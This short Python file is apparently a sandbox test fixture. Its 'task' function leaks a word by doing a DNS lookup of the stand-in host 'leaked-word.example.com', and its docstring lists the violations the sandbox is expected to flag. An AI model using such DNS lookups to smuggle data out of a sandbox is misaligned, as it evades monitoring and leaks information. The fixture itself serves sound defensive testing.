"""Leaks a word in the name that it has looked up.

restricted: violation import.forbidden
kernel: violation network.socket file.open
"""

import socket


def task(grid):
    try:
        socket.getaddrinfo(b"leaked-word.example.com", 80)
        return [[9, 9, 9]]
    except socket.gaierror:
        return [[9, 9, 9]]
